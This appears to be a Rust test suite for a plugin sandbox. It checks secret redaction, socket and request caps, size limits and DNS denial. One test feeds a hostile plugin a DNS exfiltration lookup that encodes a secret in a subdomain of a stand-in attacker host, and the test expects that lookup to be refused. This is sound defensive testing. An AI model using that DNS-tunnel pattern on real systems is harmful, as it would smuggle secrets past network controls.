    let report = engine.run("rows", &Default::default()).await.unwrap();
    assert_eq!(
        (report.counts.ok, report.counts.rejected),
        (1, 2),
        "{:?}",
        report.error
    );
    // The ledger holds the API's message, without the secret.
    let ledger = {
        use sluice_state::StateStore;
        store.lock().unwrap().ledger("rows").unwrap()
    };
    assert_eq!(ledger.len(), 2);
    for entry in &ledger {
        assert_eq!(entry.message, "the API refused key <redacted>");
    }
    // So do the plugin's log line, stdout and stderr.
    let lines = test.lines.lock().unwrap();
    let echoed: Vec<&str> = lines
        .iter()
        .map(|l| l.message.as_str())
        .filter(|m| m.contains("key "))
        .collect();
    assert_eq!(echoed.len(), 3, "{echoed:?}");
    assert!(
        echoed.iter().all(|m| m.ends_with("key <redacted>")),
        "{echoed:?}"
    );
    assert!(!lines.iter().any(|l| l.message.contains(secret)));
    // And the state files themselves (the database and its write-ahead log).
    for file in std::fs::read_dir(dir.path().join(".sluice")).unwrap() {
        let path = file.unwrap().path();
        if path.is_file() {
            let bytes = std::fs::read(&path).unwrap();
            let leaked = bytes.windows(secret.len()).any(|w| w == secret.as_bytes());
            assert!(!leaked, "{} holds the secret", path.display());
        }
    }
}

fn expect_denial(failure: &PluginFailure, capability: &str) -> String {
    let FailureKind::Denied(denial) = &failure.kind else {
        panic!("expected a denial of {capability}: {failure}")
    };
    assert_eq!(denial.capability, capability, "{failure}");
    denial.detail.clone()
}

/// Limits with `customise` applied to the defaults.
fn limits(customise: impl FnOnce(&mut Limits)) -> Limits {
    let mut limits = Limits::default();
    customise(&mut limits);
    limits
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_tcp_grant_not_one_socket_is_created() {
    let test = runtime();
    // An HTTPS grant is for `wasi:http`, which the host performs: it does
    // not let the plugin create raw sockets either.
    for grants in [&[][..], &["https://api.example.com"][..]] {
        let started = Instant::now();
        let failure =
            expect_failure(side_by_side(&test, "socket-flood", "", sandbox(grants)).await);
        let detail = expect_denial(&failure, "network (tcp)");
        assert!(
            detail.contains("no grant that reaches raw TCP")
                && detail.contains("no socket was created"),
            "{failure}"
        );
        // The first of 20,000 attempts failed: no host descriptor was taken.
        assert!(started.elapsed() < Duration::from_secs(30));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn open_sockets_per_instance_are_capped() {
    let test = runtime();
    let mut capped = sandbox(&["tcp://127.0.0.1:5432"]);
    capped.limits = Some(limits(|l| l.sockets = 8));
    let fds_before = open_fds();
    let failure = expect_failure(side_by_side(&test, "socket-flood", "", capped).await);
    let detail = expect_denial(&failure, "network (tcp)");
    assert!(
        detail.contains("already holds 8 open sockets, the limit of `limits.sockets` (8)"),
        "{failure}"
    );
    // The eight sockets went with the call.
    assert!(
        open_fds() <= fds_before + 8,
        "{} > {fds_before} + 8",
        open_fds()
    );
}

/// Descriptors the test process holds.
fn open_fds() -> usize {
    std::fs::read_dir("/proc/self/fd").map_or(0, |d| d.count())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_in_flight_per_instance_are_capped() {
    use std::sync::atomic::{AtomicUsize, Ordering::SeqCst};
    use std::sync::Arc;
    // A server that never answers and counts the connections open at once
    // (one closes when the client closes it).
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let (open, peak) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    let (o, p) = (open.clone(), peak.clone());
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            p.fetch_max(o.fetch_add(1, SeqCst) + 1, SeqCst);
            let o = o.clone();
            tokio::spawn(async move {
                use tokio::io::AsyncReadExt;
                let mut buf = [0u8; 1024];
                while matches!(socket.read(&mut buf).await, Ok(n) if n > 0) {}
                o.fetch_sub(1, SeqCst);
            });
        }
    });
    let url = format!("http://127.0.0.1:{port}");
    let test = runtime();
    let mut capped = sandbox(&[&url]);
    capped.limits = Some(limits(|l| l.requests_in_flight = 8));
    let started = Instant::now();
    let failure = expect_failure(side_by_side(&test, "request-flood", &url, capped).await);
    let detail = expect_denial(&failure, "requests in flight");
    assert!(
        detail.contains("8 requests already in flight, the limit of `limits.requests_in_flight`"),
        "{failure}"
    );
    assert!(started.elapsed() < Duration::from_secs(90));
    let most = peak.load(SeqCst);
    assert!(
        (1..=8).contains(&most),
        "{most} of 30,000 requests were open at once"
    );
    // Every connection closed with its request when the plugin dropped it:
    // none is left open to the server.
    let deadline = Instant::now() + Duration::from_secs(5);
    while open.load(SeqCst) > 0 && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(open.load(SeqCst), 0, "connections left open");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_100_mb_schema_in_spec_is_refused_before_parsing() {
    let test = runtime();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("huge-spec"), "").unwrap();
    let mut huge = sandbox(&[&format!("dir:{}:/hostile", dir.path().display())]);
    // Room for the guest to build it: the host's limit is what is tested.
    huge.limits = Some(limits(|l| l.memory_bytes = 1 << 30));
    let bytes = std::fs::read(common::HOSTILE_PATH).unwrap();
    let plugin = Plugin::from_bytes(&test.runtime, "hostile", &bytes).unwrap();
    let receiver = receiver().await;
    let inspect = async {
        let mut instance = plugin.instantiate(&huge).await.unwrap();
        instance.spec().await.unwrap_err()
    };
    let (failure, ()) = tokio::join!(inspect, well_behaved(&test.runtime, &receiver));
    assert_eq!(
        (failure.plugin.as_str(), failure.call.as_str()),
        ("hostile", "spec")
    );
    let FailureKind::TooLarge { bytes, limit, .. } = failure.kind else {
        panic!("{failure}")
    };
    assert!(bytes >= 100 << 20, "{bytes}");
    assert_eq!(limit, Limits::default().spec_bytes);
    assert!(
        failure.to_string().contains("(`limits.spec_bytes`)"),
        "{failure}"
    );
    // The same plugin without the trigger has a small, usable spec.
    let mut fine = plugin.instantiate(&sandbox(&[])).await.unwrap();
    assert_eq!(fine.spec().await.unwrap().name, "hostile");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rejection_and_error_messages_are_capped_before_the_host_keeps_them() {
    let test = runtime();
    let results = side_by_side(&test, "long-rejections", "", sandbox(&[]))
        .await
        .unwrap();
    assert_eq!(results.len(), 3);
    for result in &results {
        let RowResult::Rejected(message) = result else {
            panic!("{result:?}")
        };
        assert!(message.len() < 4096 + 128, "{} bytes kept", message.len());
        assert!(message.starts_with("rrrr"), "{message}");
        assert!(
            message.ends_with(&format!(
                "[truncated: {} more bytes over the limit of 4096 (limits.message_bytes)]",
                (12 << 20) - 4096
            )),
            "{message}"
        );
    }
    let failure = expect_failure(side_by_side(&test, "long-error", "", sandbox(&[])).await);
    let message = failure.to_string();
    assert!(message.len() < 4096 + 256, "{} bytes", message.len());
    assert!(message.contains("(limits.message_bytes)"), "{message}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_name_no_grant_covers_is_never_resolved() {
    let test = runtime();
    // Granted one HTTPS host; tries to send data out through the resolver.
    let config = serde_json::json!({
        "attack": "resolve",
        "path": "c2VjcmV0.exfil.attacker.example",
    });
    let failure = expect_failure(
        side_by_side_with(&test, config, sandbox(&["https://api.example.com"])).await,
    );
    let detail = expect_denial(&failure, "network (dns)");
    assert!(
        detail.contains("looking up `c2VjcmV0.exfil.attacker.example`: no grant covers that name"),
        "{failure}"
    );
    // A name the grant covers resolves.
    let config = serde_json::json!({ "attack": "resolve", "path": "localhost" });
    let results = side_by_side_with(&test, config, sandbox(&["tcp://localhost:5432"]))
        .await
        .unwrap();
    let RowResult::Rejected(found) = &results[0] else {
        panic!("{results:?}")
    };
    assert!(found.starts_with("localhost resolved to ["), "{found}");
    assert!(found.contains("Ipv4"), "{found}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn recording_a_streamed_1_5_gib_upload_is_refused_at_the_cassette_limit() {
    use sluice_runtime::sandbox::cassette::{Recorder, Redactor, MAX_RECORDED_BODY};
    use sluice_runtime::sandbox::http::HttpMode;
    let test = runtime();
    let rx = receiver().await;
    let url = rx.url.trim_end_matches("/hook").to_string();
    let recorder = std::sync::Arc::new(Recorder::new(Redactor::new(vec![]), Duration::ZERO));
    let mut recording = sandbox(&[&rx.grant()]);
    recording.http = HttpMode::Record(recorder.clone());
    let started = Instant::now();
    let failure = expect_failure(side_by_side(&test, "big-upload", &url, recording).await);
    let detail = expect_denial(&failure, "cassette");
    assert!(
        detail.contains(&format!(
            "a request body over {} MiB cannot be recorded",
            MAX_RECORDED_BODY >> 20
        )),
        "{failure}"
    );
    assert!(started.elapsed() < Duration::from_secs(120));
    assert!(recorder.cassette().interactions.is_empty());
}
